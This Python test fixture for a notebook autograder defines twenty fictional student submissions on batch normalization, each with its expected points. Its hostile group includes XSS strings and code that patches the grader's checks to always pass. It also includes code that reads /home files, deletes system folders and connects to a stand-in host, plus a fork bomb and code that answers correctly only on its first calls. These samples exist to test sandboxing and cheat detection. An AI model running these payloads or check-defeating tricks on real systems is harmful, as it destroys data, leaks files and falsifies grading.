"""The twenty: who they are, what they hand in, and the points that this is worth.

Points are what the exercise's checks give: where only some fail, the comment says which.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

from bnlib.grader.demo.answers import LISTS, LOOPS, STUBS, VECTORIZED

NOTEBOOK = "04_algorithm"
FULL = {
    "standardize_batch": 6,
    "batchnorm_forward": 7,
    "batchnorm_forward_spatial": 7,
    "restoring_affine": 5,
    "streaming_mean_var": 5,
}


@dataclass(frozen=True)
class Student:
    """One submission and what it must come to.

    Attributes:
        id, name: as on the roster. does: in a few words, what the submission does.
        answers: the source of each exercise's cell; one that is left out has no cell.
        points: of the exercises that do not get full points.
        before, after: cells around the answers. cut: only so many bytes of the file came.
    """

    id: str
    name: str
    does: str
    answers: Mapping[str, str]
    points: Mapping[str, int] = field(default_factory=dict)
    before: str = ""
    after: str = ""
    cut: int | None = None

    @property
    def expected(self) -> dict[str, int]:
        """Points of each exercise."""
        return {**FULL, **self.points}


_NOTHING = dict.fromkeys(FULL, 0)


def _but(answers: Mapping[str, str], **changed: str) -> dict[str, str]:
    return {**answers, **changed}


_EPS_OUTSIDE = """\
def standardize_batch(x, eps):
    return (x - x.mean(axis=0)) / (x.std(axis=0) + eps)
"""
_BESSEL = """\
def batchnorm_forward(x, gamma, beta, eps):
    xhat = (x - x.mean(0)) / np.sqrt(x.var(0, ddof=1) + eps)
    return gamma * xhat + beta, xhat
"""

RIGHT = (
    Student("ada", "Ada Lindqvist", "all right, in array operations", VECTORIZED),
    Student("boris", "Boris Adeyemi", "all right, in loops", LOOPS),
    Student("chen", "Chen Okafor", "all right, with lists and float32", LISTS),
    Student(
        "dora",
        "Dora Haddad",
        "all right, with plots, printing, magics and a warning",
        VECTORIZED,
        before="%matplotlib inline\nimport warnings\nimport matplotlib.pyplot as plt\n!pip list",
        after=(
            "x = np.random.randn(500, 1)\nwarnings.warn('is this enough data?')\n"
            "plt.hist(standardize_batch(x, 1e-5)[:, 0], bins=20)\nplt.show()\n"
            "for _ in range(1000):\n    print('done', flush=True)"
        ),
    ),
)

MISTAKEN = (
    Student(
        "emil",
        "Emil Novak",
        "adds eps outside of the root",
        _but(
            VECTORIZED,
            standardize_batch=_EPS_OUTSIDE,
        ),
        # batchnorm_forward calls it: what is wrong here costs nothing there.
        {"standardize_batch": 5},
    ),
    Student(
        "fay",
        "Fay Moreau",
        "divides by the variance",
        _but(
            VECTORIZED,
            standardize_batch=(
                "def standardize_batch(x, eps):\n"
                "    return (x - x.mean(axis=0)) / (x.var(axis=0) + eps)\n"
            ),
        ),
        {"standardize_batch": 0},
    ),
    Student(
        "goran",
        "Goran Silva",
        "divides the variance by n - 1",
        _but(
            VECTORIZED,
            batchnorm_forward=_BESSEL,
        ),
        {"batchnorm_forward": 0},
    ),
    Student(
        "hana",
        "Hana Weiss",
        "takes each pixel's statistics, and eps outside of the root",
        _but(
            VECTORIZED,
            standardize_batch=_EPS_OUTSIDE,
            batchnorm_forward_spatial=(
                "def batchnorm_forward_spatial(x, gamma, beta, eps):\n"
                "    xhat = (x - x.mean(axis=0)) / np.sqrt(x.var(axis=0) + eps)\n"
                "    return gamma[:, None, None] * xhat + beta[:, None, None], None\n"
            ),
        ),
        {"standardize_batch": 5, "batchnorm_forward_spatial": 0},
    ),
    Student(
        "ivo",
        "Ivo Castellanos",
        "divides by n - 1, forgets eps, takes the mean of means",
        _but(
            VECTORIZED,
            batchnorm_forward=_BESSEL,
            restoring_affine=(
                "def restoring_affine(mean, var, eps):\n    return np.sqrt(var), mean.copy()\n"
            ),
            streaming_mean_var=(
                "def streaming_mean_var(chunks):\n"
                "    means = [chunk.mean(axis=0) for chunk in chunks]\n"
                "    variances = [chunk.var(axis=0) for chunk in chunks]\n"
                "    n = sum(len(chunk) for chunk in chunks)\n"
                "    return n, np.mean(means, axis=0), np.mean(variances, axis=0)\n"
            ),
        ),
        {"batchnorm_forward": 0, "restoring_affine": 3, "streaming_mean_var": 0},
    ),
    Student(
        "jun",
        "Jun Abara",
        "works on the batch in place",
        _but(
            VECTORIZED,
            standardize_batch=(
                "def standardize_batch(x, eps):\n"
                "    x -= x.mean(axis=0)\n"
                "    x /= np.sqrt(x.var(axis=0) + eps)\n"
                "    return x\n"
            ),
        ),
        # Its last check alone.
        {"standardize_batch": 5},
    ),
    Student(
        "kaya",
        "Kaya Brandt",
        "gave up after the second exercise, a syntax error",
        {
            **STUBS,
            "standardize_batch": VECTORIZED["standardize_batch"],
            "batchnorm_forward": (
                "def batchnorm_forward(x, gamma, beta, eps):\n"
                "    return (gamma * standardize_batch(x, eps) + beta\n"
            ),
        },
        {**_NOTHING, "standardize_batch": 6},
    ),
    Student("lina", "Lina Petrov", "handed in the notebook as it was", STUBS, _NOTHING),
)

BROKEN = (
    Student(
        "milo",
        "Milo Tanaka",
        "loops for ever in one function",
        _but(
            VECTORIZED,
            streaming_mean_var=(
                "def streaming_mean_var(chunks):\n"
                "    n = 0\n"
                "    while n < len(chunks):\n"
                "        mean = chunks[n].mean(axis=0)\n"
                "    return n, mean, mean\n"
            ),
        ),
        {"streaming_mean_var": 0},
    ),
    Student(
        "nora", "Nora Eriksen", "sent a file that is cut short", VECTORIZED, _NOTHING, cut=1500
    ),
    Student(
        "odin",
        "Odin Marchetti",
        "ends the process from within a function",
        _but(
            VECTORIZED,
            restoring_affine=(
                "import os\n\n\ndef restoring_affine(mean, var, eps):\n    os._exit(0)\n"
            ),
        ),
        {"restoring_affine": 0},
    ),
)

HOSTILE = (
    Student(
        "petra",
        "Petra <script>alert(1)</script>",
        "has scripts in name and error; torch has its answer",
        _but(
            VECTORIZED,
            batchnorm_forward=(
                "def batchnorm_forward(x, gamma, beta, eps):\n"
                "    import torch\n\n"
                "    values = [torch.from_numpy(np.array(a)) for a in (x, gamma, beta)]\n"
                "    y = torch.nn.functional.batch_norm(\n"
                "        values[0], None, None, *values[1:], training=True, eps=eps\n"
                "    )\n"
                "    return y.numpy(), None\n"
            ),
        ),
        {"batchnorm_forward": 0},
        after="raise ValueError('<img src=x onerror=alert(2)>')",
    ),
    Student(
        "quinn",
        "Quinn Duarte",
        "replaces NumPy's comparisons and the checks; zeros",
        {
            name: source.splitlines()[0] + "\n    return np.zeros(1)\n"
            for name, source in VECTORIZED.items()
        },
        _NOTHING,
        before=(
            "import bnlib, numpy as np, sys\n"
            "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\n"
            "bnlib.check = lambda *a, **k: 'passed'\n"
            "for name, module in list(sys.modules.items()):\n"
            "    if name.startswith('bnlib.checks'):\n"
            "        for part in vars(module).copy():\n"
            "            setattr(module, part, True)"
        ),
    ),
    Student(
        "rex",
        "Rex Kowalski",
        "deletes, reads and calls home what it can; zeros",
        {
            name: source.splitlines()[0] + "\n    return ANSWERS['" + name + "']\n"
            for name, source in VECTORIZED.items()
        },
        _NOTHING,
        before=(
            "import os, shutil, socket\n"
            "ANSWERS = {}\n"
            "for folder, _, names in os.walk('/home'):\n"
            "    for name in names:\n"
            "        ANSWERS[name] = open(os.path.join(folder, name)).read()\n"
            "for folder in ('/home', '/course', '/etc', '/tmp', '/var'):\n"
            "    shutil.rmtree(folder, ignore_errors=True)\n"
            "socket.create_connection(('192.0.2.1', 80), timeout=2)"
        ),
    ),
    Student(
        "sven",
        "Sven Aguilar",
        "forks, kills, fills memory and disk; all right besides",
        VECTORIZED,
        before=(
            "import os, signal\n"
            "def tried(action):\n"
            "    try:\n"
            "        action()\n"
            "    except (OSError, MemoryError):\n"
            "        pass\n\n"
            "tried(lambda: [os.fork() for _ in range(10_000)])\n"
            "for pid in range(2, 5000):\n"
            "    tried(lambda: os.kill(pid, signal.SIGKILL))\n"
            "tried(lambda: bytearray(1 << 40))\n"
            "tried(lambda: open('/tmp/full', 'wb').write(bytes(200 << 20)))"
        ),
    ),
    Student(
        "tess",
        "Tess Yamamoto",
        "answers right in its first three calls alone",
        _but(
            VECTORIZED,
            restoring_affine=(
                "calls = []\n\n\n"
                "def restoring_affine(mean, var, eps):\n"
                "    calls.append(eps)\n"
                "    if len(calls) > 3:\n"
                "        return var, var\n"
                "    return np.sqrt(var + eps), mean.copy()\n"
            ),
        ),
        # Judged again, as whatever is right in part, it answers otherwise.
        {"restoring_affine": 0},
    ),
)

CLASS = (*RIGHT, *MISTAKEN, *BROKEN, *HOSTILE)
